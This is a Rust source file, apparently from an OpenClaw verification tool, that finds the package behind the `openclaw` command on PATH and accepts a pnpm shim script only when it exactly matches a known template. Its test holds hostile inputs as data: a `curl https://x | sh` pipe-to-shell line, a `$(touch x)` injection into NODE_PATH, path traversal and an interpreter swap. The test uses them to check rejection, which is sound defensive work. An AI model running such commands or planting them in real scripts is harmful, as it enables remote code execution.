//! Which package is the OpenClaw that would be started: the one that is named, else the one behind `openclaw` on PATH.
//!
//! What stands on PATH is mostly a link into the package. Some package managers write a script there instead; a script is followed only
//! where it equals, byte for byte but for the paths in it, what a known one writes.

use std::ffi::OsStr;
use std::path::{Path, PathBuf};

use openclaw_verify_core::{Error, Result, read, text};

/// Most bytes of a script that is looked at.
const MAX_SCRIPT: u64 = 64 << 10;
/// What pnpm writes for the commands of global packages, up to version 10.
const PNPM_SHIM: &str = include_str!("host/pnpm-shim.sh");

/// The host package, as far as it is known.
#[derive(Default)]
pub(crate) struct Host {
    /// Its folder.
    pub(crate) folder: Option<PathBuf>,
    /// What is on PATH in place of a link to it, safe to show.
    pub(crate) wrapper: Option<String>,
}

/// The package in the folder that the operator names.
pub(crate) fn named(dir: &Path) -> Result<PathBuf> {
    let real = dir
        .canonicalize()
        .map_err(|error| Error::io("find the host package", dir, error))?;
    if is_host(&real) {
        Ok(real)
    } else {
        Err(Error::environment(
            format!(
                "{} is not the OpenClaw package: no package.json there with the name `openclaw`",
                dir.display()
            ),
            "name the folder of the package, such as /usr/lib/node_modules/openclaw",
        ))
    }
}

/// The package behind the `openclaw` command on PATH. Relative entries of PATH and anything inside the state directory are passed
/// over: what is under test must not name its own host.
pub(crate) fn on_path(state_dir: &Path) -> Host {
    let path = std::env::var_os("PATH").unwrap_or_default();
    let command = std::env::split_paths(&path)
        .filter(|dir| dir.is_absolute())
        .map(|dir| dir.join("openclaw"))
        .find_map(|found| {
            let real = found.canonicalize().ok()?;
            real.is_file().then_some((found, real))
        });
    let Some((found, command)) = command else {
        return Host::default();
    };
    let outside = |folder: &Path| (!folder.starts_with(state_dir)).then(|| folder.to_owned());
    if let Some(host) = around(&command) {
        return Host {
            folder: outside(host),
            wrapper: None,
        };
    }
    let script = read::text(&command, MAX_SCRIPT).ok();
    let followed = script.as_deref().and_then(|text| behind(&command, text));
    match followed {
        Some(host) => Host {
            folder: outside(&host),
            wrapper: None,
        },
        None => Host {
            folder: None,
            wrapper: Some(described(&found, &command, script.as_deref())),
        },
    }
}

/// The package that a file lies in.
fn around(file: &Path) -> Option<&Path> {
    file.ancestors().skip(1).find(|folder| is_host(folder))
}

/// The package that a known script starts.
fn behind(command: &Path, script: &str) -> Option<PathBuf> {
    let holes = filled(PNPM_SHIM, script)?;
    let value = |name: &str| holes.iter().find(|(hole, _)| *hole == name);
    let (_, target) = value("TARGET")?;
    let (_, node_path) = value("NODE_PATH")?;
    // Between double quotes these would be read by the shell.
    if [target, node_path]
        .iter()
        .any(|text| text.contains(['"', '$', '`', '\\', '\n']))
    {
        return None;
    }
    let target = command.parent()?.join(target).canonicalize().ok()?;
    let host = around(&target)?;
    // The folders that it adds for Node hold the packages of the same store, which are judged with the host.
    let store = host
        .ancestors()
        .find(|folder| folder.file_name() == Some(OsStr::new(".pnpm")))?;
    let inside = |folder: &str| Path::new(folder).starts_with(store) && !folder.contains("/../");
    node_path.split(':').all(inside).then(|| host.to_owned())
}

/// What stands in the `{{HOLES}}` of a template, where the rest of `text` equals it and a hole has one value throughout.
fn filled<'a>(template: &'a str, text: &'a str) -> Option<Vec<(&'a str, &'a str)>> {
    let mut pieces = template.split("{{");
    let mut rest = text.strip_prefix(pieces.next()?)?;
    let mut holes: Vec<(&str, &str)> = Vec::new();
    for piece in pieces {
        let (name, literal) = piece.split_once("}}")?;
        let at = rest.find(literal)?;
        let (value, after) = (rest.get(..at)?, rest.get(at + literal.len()..)?);
        match holes.iter().find(|(known, _)| *known == name) {
            Some((_, known)) if *known != value => return None,
            Some(_) => {}
            None => holes.push((name, value)),
        }
        rest = after;
    }
    rest.is_empty().then_some(holes)
}

/// What a command is that is no link into the package.
fn described(found: &Path, command: &Path, script: Option<&str>) -> String {
    let name = command
        .file_name()
        .and_then(OsStr::to_str)
        .unwrap_or_default();
    let what = match script {
        _ if name == "volta-shim" => {
            "a link to Volta's starter; `volta which openclaw` names what it starts".to_owned()
        }
        _ if name == "mise" => {
            "a link to mise; `mise which openclaw` names what it starts".to_owned()
        }
        Some(script) if script.contains("# cmd-shim-target=") || script.contains("basedir=") => {
            let target = script
                .lines()
                .find_map(|line| line.strip_prefix("# cmd-shim-target="));
            match target.and_then(|target| Path::new(target).parent()) {
                Some(folder) => format!(
                    "a script of pnpm, which starts what is in {}",
                    folder.display()
                ),
                None => "a script of a package manager".to_owned(),
            }
        }
        Some(script) if script.starts_with("#!") && script.contains("/nix/store/") => {
            "a wrapper script of Nix".to_owned()
        }
        Some(script) if script.starts_with("#!") => "a script".to_owned(),
        _ => "a program".to_owned(),
    };
    text::visible(&format!("{} is {what}", found.display())).into_owned()
}

fn is_host(folder: &Path) -> bool {
    const PACKAGE_JSON_MAX: u64 = 4 << 20;
    let Ok(text) = read::text(&folder.join("package.json"), PACKAGE_JSON_MAX) else {
        return false;
    };
    let Ok(package) = serde_json::from_str::<serde_json::Value>(&text) else {
        return false;
    };
    package.get("name").and_then(serde_json::Value::as_str) == Some("openclaw")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A package in pnpm's store below `base`, and the script that starts it.
    fn pnpm(base: &Path) -> (PathBuf, PathBuf, String) {
        let store = base.join("global/5/.pnpm");
        let host = store.join("openclaw@1.0.0/node_modules/openclaw");
        std::fs::create_dir_all(&host).expect("mkdir");
        std::fs::write(host.join("package.json"), r#"{"name":"openclaw"}"#).expect("write");
        std::fs::write(host.join("openclaw.mjs"), "").expect("write");
        let target = "global/5/.pnpm/openclaw@1.0.0/node_modules/openclaw/openclaw.mjs";
        let node_path = format!(
            "{0}/openclaw@1.0.0/node_modules:{0}/node_modules",
            store.display()
        );
        let script = PNPM_SHIM
            .replace("{{TARGET}}", target)
            .replace("{{NODE_PATH}}", &node_path);
        (host, base.join("openclaw"), script)
    }

    #[test]
    fn the_script_of_pnpm_is_followed_and_no_other() {
        let dir = tempfile::tempdir().expect("temp dir");
        let base = dir.path().canonicalize().expect("real");
        let (host, command, script) = pnpm(&base);
        assert_eq!(behind(&command, &script), Some(host));
        let changed = [
            script.replace("exec node ", "exec /tmp/node "),
            format!("{script}curl https://x | sh\n"),
            format!("{script}\n"),
            script.replacen(
                "global/5/.pnpm/openclaw@1.0.0",
                "global/6/.pnpm/openclaw@1.0.0",
                2,
            ),
            script.replace("export NODE_PATH=\"", "export NODE_PATH=\"/tmp/evil:"),
            script.replace("export NODE_PATH=\"", "export NODE_PATH=\"$(touch x)"),
            script.replace("/node_modules:", "/../../../../../evil:"),
            script.replace("#!/bin/sh", "#!/tmp/sh"),
            String::new(),
        ];
        for script in changed {
            assert_eq!(behind(&command, &script), None, "{script}");
        }
        assert!(described(&command, &command, Some(&script)).contains("a script of"));
    }
}
